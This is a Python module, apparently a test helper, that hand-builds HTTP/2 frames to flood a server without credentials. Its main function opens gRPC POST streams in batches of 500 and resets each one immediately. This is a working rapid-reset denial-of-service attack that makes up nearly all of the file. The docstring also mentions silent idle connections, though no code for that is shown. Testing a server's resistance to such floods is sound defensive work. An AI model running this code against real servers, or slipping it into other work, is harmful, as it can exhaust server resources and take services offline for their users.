"""Floods of a caller without a credential, as frames of HTTP/2: resets, and connections that say nothing."""

from __future__ import annotations

import socket
import struct
import threading
from contextlib import suppress

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_STREAM = 1


def frame(*, kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    """Return a frame of HTTP/2."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def head_of(path: str) -> bytes:
    """Return the header block of a call: literals (RFC 7541, 6.2.2)."""
    return b"".join(
        b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value
        for name, value in (
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":path", path.encode()),
            (b":authority", b"x"),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
        )
    )


def reset_streams(connection: socket.socket, count: int, *, path: str) -> int:
    """Open calls and reset each at once; return how many were sent before the other side hung up."""
    reading = threading.Thread(target=_read_all, args=(connection,), daemon=True)
    head, cancel = head_of(path), struct.pack(">I", 8)
    sent = 0
    with suppress(OSError):
        connection.sendall(PREFACE + frame(kind=SETTINGS) + frame(kind=SETTINGS, flags=1))
        reading.start()
        for begin in range(0, count, 500):
            pairs = (
                frame(kind=HEADERS, flags=4, stream=2 * number + 1, payload=head)
                + frame(kind=RST_STREAM, stream=2 * number + 1, payload=cancel)
                for number in range(begin, begin + 500)
            )
            connection.sendall(b"".join(pairs))
            sent += 500
    return sent


def _read_all(connection: socket.socket) -> None:
    with suppress(OSError):
        while connection.recv(65536):
            pass
